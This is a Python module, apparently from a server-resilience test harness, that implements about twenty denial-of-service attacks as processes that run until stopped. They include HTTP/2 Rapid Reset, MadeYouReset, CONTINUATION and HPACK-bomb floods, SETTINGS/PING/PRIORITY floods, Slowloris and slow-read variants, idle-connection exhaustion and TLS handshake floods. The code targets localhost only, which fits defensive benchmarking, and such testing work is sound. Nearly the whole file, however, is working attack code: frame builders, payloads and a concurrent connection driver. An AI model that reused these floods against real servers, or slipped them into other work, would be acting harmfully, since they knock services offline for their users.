"""What attackers send, each as a process of its own that goes on until it is stopped. See README.md."""

import multiprocessing
import os
import resource
import selectors
import signal
import socket
import struct
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM, ACK, END_HEADERS = 1, 1, 4

# Not that of the well-behaved: what an address may have is the attacker's own.
ADDRESS = "127.0.0.2"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def text(value):
    """A literal string of HPACK, not compressed (RFC 7541 §5.2), of less than 127 bytes."""
    return bytes([len(value)]) + value


def block(method=b"GET", path=b"/128", extra=b""):
    """A header block without the dynamic table."""
    fields = [b"\x83" if method == b"POST" else b"\x82", b"\x86", b"\x04" + text(path), b"\x01" + text(b"a.example")]
    return b"".join(fields) + extra


def literal(name, value):
    return b"\x00" + text(name) + text(value)


class Attack:
    """Connections that are made again when they are cut, and send as fast as they may."""

    connections = 32
    reads = True
    # Between two bursts of a connection; 0 is as fast as the socket takes them.
    pause = 0.0
    # Between two connections of one slot.
    backoff = 0.0
    receive_buffer = None

    def hello(self):
        """What a connection begins with."""
        return PREFACE + frame(SETTINGS, 0, 0)

    def burst(self, state):
        """What it goes on with, again and again; `None` ends the connection."""
        return b""


class RapidReset(Attack):
    """Streams that are opened and reset at once (CVE-2023-44487)."""

    def __init__(self):
        head = block()
        streams = range(1, 20_001, 2)
        self.blob = b"".join(
            frame(HEADERS, END_STREAM | END_HEADERS, n, head) + frame(RST_STREAM, 0, n, struct.pack(">I", 8)) for n in streams
        )

    def burst(self, state):
        # Once, and then it stays until it is cut.
        state["sent"] = state.get("sent", 0) + 1
        return self.blob if state["sent"] == 1 else b""


class MadeYouReset(Attack):
    """Streams that the server has to reset (CVE-2025-8671): a window that overflows."""

    def __init__(self):
        head = block()
        self.blob = b"".join(
            frame(HEADERS, END_STREAM | END_HEADERS, n, head)
            + frame(WINDOW_UPDATE, 0, n, struct.pack(">I", 0x7FFFFFFF))
            + frame(WINDOW_UPDATE, 0, n, struct.pack(">I", 0x7FFFFFFF))
            for n in range(1, 20_001, 2)
        )

    burst = RapidReset.burst


class Continuation(Attack):
    """A header block that never ends (CVE-2024-27316)."""

    def hello(self):
        return super().hello() + frame(HEADERS, END_STREAM, 1, block())

    def burst(self, state):
        return frame(CONTINUATION, 0, 1, literal(b"x", b"y" * 100) * 100) * 8


class EmptyContinuation(Continuation):
    """The same without a byte in it."""

    def burst(self, state):
        return frame(CONTINUATION, 0, 1) * 5000


class Settings(Attack):
    """SETTINGS, each of which is to be acknowledged (CVE-2019-9515); the answers are not read."""

    reads = False

    def burst(self, state):
        return frame(SETTINGS, 0, 0) * 5000


class Ping(Attack):
    """PING, the same (CVE-2019-9512)."""

    reads = False

    def burst(self, state):
        return frame(PING, 0, 0, b"12345678") * 4000


class PingAnswers(Attack):
    """Acknowledgements of PINGs that nobody has sent: each is worth a remark, and none should get one."""

    def burst(self, state):
        return frame(PING, ACK, 0, b"12345678") * 4000


class Priority(Attack):
    """PRIORITY, for a tree that nobody keeps (CVE-2019-9513)."""

    def burst(self, state):
        return b"".join(frame(PRIORITY, 0, n, struct.pack(">IB", 0, n & 255)) for n in range(1, 8001, 2))


class EmptyData(Attack):
    """DATA without data (CVE-2019-9518)."""

    def hello(self):
        return super().hello() + frame(HEADERS, END_HEADERS, 1, block(b"POST"))

    def burst(self, state):
        return frame(DATA, 0, 1) * 7000


class ZeroWindow(Attack):
    """Large responses that are asked for and never taken (CVE-2019-9517)."""

    connections = 50
    pause = 1.0

    def hello(self):
        no_window = frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0))
        head = block(path=b"/200000")
        asked = b"".join(frame(HEADERS, END_STREAM | END_HEADERS, n, head) for n in range(1, 201, 2))
        return PREFACE + no_window + asked


class HpackBomb(Attack):
    """A field of 3 kB in the dynamic table, and requests that refer to it a thousand times with a byte each."""

    def __init__(self):
        # The length as a prefix of 7 bits and its continuation (RFC 7541 §5.1).
        length = 3000
        value = bytes([0x7F]) + bytes([(length - 127) & 0x7F | 0x80, (length - 127) >> 7]) + b"v" * length
        first = frame(HEADERS, END_STREAM | END_HEADERS, 1, block() + b"\x40" + text(b"x-bomb") + value)
        self.blob = first + b"".join(
            frame(HEADERS, END_STREAM | END_HEADERS, n, block() + b"\xbe" * 16_000) for n in range(3, 203, 2)
        )

    burst = RapidReset.burst


class Slowloris(Attack):
    """Heads that come a byte a second."""

    connections = 1000
    pause = 1.0

    def hello(self):
        return b"GET /128 HTTP/1.1\r\nhost: a\r\n"

    def burst(self, state):
        return b"x"


class SlowBody(Attack):
    """Bodies that come a byte a second."""

    connections = 1000
    pause = 1.0

    def hello(self):
        return b"POST /128 HTTP/1.1\r\nhost: a\r\ncontent-length: 1000000\r\n\r\n"

    def burst(self, state):
        return b"x"


class SlowRead(Attack):
    """Responses of 1 MB that are not read."""

    connections = 1000
    reads = False
    pause = 1.0
    receive_buffer = 4096

    def hello(self):
        return b"GET /1000000 HTTP/1.1\r\nhost: a\r\n\r\n"


class SlowReadByByte(Attack):
    """The same by HTTP/2, with a window that is opened by a byte a second."""

    connections = 100
    pause = 1.0

    def hello(self):
        small = frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 1))
        head = block(path=b"/1000000")
        return PREFACE + small + b"".join(frame(HEADERS, END_STREAM | END_HEADERS, n, head) for n in range(1, 21, 2))

    def burst(self, state):
        return b"".join(frame(WINDOW_UPDATE, 0, n, struct.pack(">I", 1)) for n in range(1, 21, 2))


class Idle(Attack):
    """Connections that say nothing."""

    connections = 10_000
    pause = 1.0

    def hello(self):
        return b""


class Handshakes(Attack):
    """The same ClientHello again and again, which costs its sender nothing and the server a signature."""

    connections = 64

    def __init__(self):
        self.client_hello = recorded_client_hello()

    def hello(self):
        return self.client_hello

    def burst(self, state):
        # Once the server has answered, it has paid.
        return None if state.get("read") else b""


class FullHandshakes(Attack):
    """Whole handshakes by OpenSSL's client, without a session, as many as it can."""


def recorded_client_hello():
    """What a client of TLS 1.3 begins with: a fresh key would make no difference to the server."""
    import ssl

    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    client = context.wrap_bio(incoming, outgoing, server_hostname="test.example")
    try:
        client.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()


ALL = {
    "rapid reset": RapidReset,
    "MadeYouReset": MadeYouReset,
    "CONTINUATION": Continuation,
    "empty CONTINUATION": EmptyContinuation,
    "SETTINGS": Settings,
    "PING": Ping,
    "PING answers": PingAnswers,
    "PRIORITY": Priority,
    "empty DATA": EmptyData,
    "zero window": ZeroWindow,
    "HPACK bomb": HpackBomb,
    "slowloris": Slowloris,
    "slow body": SlowBody,
    "slow read": SlowRead,
    "slow read by the byte": SlowReadByByte,
    "10 000 idle": Idle,
    "handshakes, replayed": Handshakes,
    "handshakes, whole": FullHandshakes,
    "handshakes, replayed, limited": Handshakes,
    "handshakes, whole, limited": FullHandshakes,
}
# Those that hold what they have, and do nothing more.
HOLDING = {"zero window", "slowloris", "slow body", "slow read", "slow read by the byte", "10 000 idle"}


class Slot:
    """One connection after the other."""

    def __init__(self):
        self.socket = None
        self.unsent = memoryview(b"")
        self.state = {}
        self.next = 0.0
        self.watched = 0


def yields():
    """Has the well-behaved, who share the attacker's core, run first: it is the server's time that the attack is to take, not theirs."""
    os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))


def run(attack, port, report):
    """Attacks until it is stopped, and reports how many connections it made and bytes it sent."""
    signal.signal(signal.SIGINT, signal.SIG_IGN)
    resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
    yields()
    selector = selectors.DefaultSelector()
    slots = [Slot() for _ in range(attack.connections)]
    made = sent = 0
    stopped = []
    signal.signal(signal.SIGTERM, lambda *_: stopped.append(1))

    def close(slot):
        if slot.watched:
            selector.unregister(slot.socket)
        slot.socket.close()
        slot.socket, slot.watched = None, 0
        slot.next = time.monotonic() + attack.backoff

    def watch(slot, events):
        if events == slot.watched:
            return
        if slot.watched and events:
            selector.modify(slot.socket, events, slot)
        elif events:
            selector.register(slot.socket, events, slot)
        else:
            selector.unregister(slot.socket)
        slot.watched = events

    while not stopped:
        now = time.monotonic()
        opened = 0
        for slot in slots:
            # So many at a time that those who are connected get their turn.
            if slot.socket is None and slot.next <= now and opened < 200:
                opened += 1
                slot.socket = socket.socket()
                slot.socket.setblocking(False)
                if attack.receive_buffer:
                    slot.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, attack.receive_buffer)
                slot.socket.bind((ADDRESS, 0))
                try:
                    slot.socket.connect(("127.0.0.1", port))
                except BlockingIOError:
                    pass
                except OSError:
                    close(slot)
                    continue
                made += 1
                slot.state = {}
                slot.unsent = memoryview(attack.hello())
                slot.next = now + attack.pause
                watch(slot, selectors.EVENT_READ * attack.reads | selectors.EVENT_WRITE)
            elif slot.socket is not None and not slot.unsent and attack.pause and slot.next <= now:
                slot.unsent = memoryview(attack.burst(slot.state))
                slot.next = now + attack.pause
                if slot.unsent:
                    watch(slot, selectors.EVENT_READ * attack.reads | selectors.EVENT_WRITE)
        for key, events in selector.select(0.02):
            slot = key.data
            if slot.socket is None:
                continue
            try:
                if events & selectors.EVENT_READ:
                    data = slot.socket.recv(262_144)
                    slot.state["read"] = True
                    if not data:
                        close(slot)
                        continue
                if slot.unsent:
                    if events & selectors.EVENT_WRITE:
                        count = slot.socket.send(slot.unsent)
                        sent += count
                        slot.unsent = slot.unsent[count:]
                elif attack.pause:
                    watch(slot, selectors.EVENT_READ * attack.reads)
                else:
                    more = attack.burst(slot.state)
                    if more is None:
                        close(slot)
                        continue
                    slot.unsent = memoryview(more)
                    # With nothing more to say it waits to be answered, or cut.
                    watch(slot, selectors.EVENT_READ | selectors.EVENT_WRITE * bool(more))
            except BlockingIOError:
                pass
            except OSError:
                close(slot)
    report.send((made, sent))


def handshakes(port, report):
    """Whole handshakes, one after the other, from a few threads of OpenSSL."""
    import ssl
    import threading

    yields()
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    stopped = threading.Event()
    signal.signal(signal.SIGTERM, lambda *_: stopped.set())
    made = [0]

    def shake():
        while not stopped.is_set():
            try:
                with socket.create_connection(("127.0.0.1", port), 5, (ADDRESS, 0)) as tcp:
                    context.wrap_socket(tcp).close()
                made[0] += 1
            except OSError:
                pass

    threads = [threading.Thread(target=shake, daemon=True) for _ in range(8)]
    for thread in threads:
        thread.start()
    stopped.wait()
    report.send((made[0], 0))


class Running:
    """An attack that is under way."""

    def __init__(self, name, port, core):
        ours, theirs = multiprocessing.Pipe()
        self.report = ours
        kind = ALL[name]
        if kind is FullHandshakes:
            self.process = multiprocessing.Process(target=handshakes, args=(port, theirs), daemon=True)
        else:
            self.process = multiprocessing.Process(target=run, args=(kind(), port, theirs), daemon=True)
        self.process.start()
        os.sched_setaffinity(self.process.pid, {core})

    def stop(self):
        """Connections made and bytes sent."""
        self.process.terminate()
        seen = self.report.recv() if self.report.poll(10) else (0, 0)
        self.process.join(10)
        self.process.kill()
        return seen
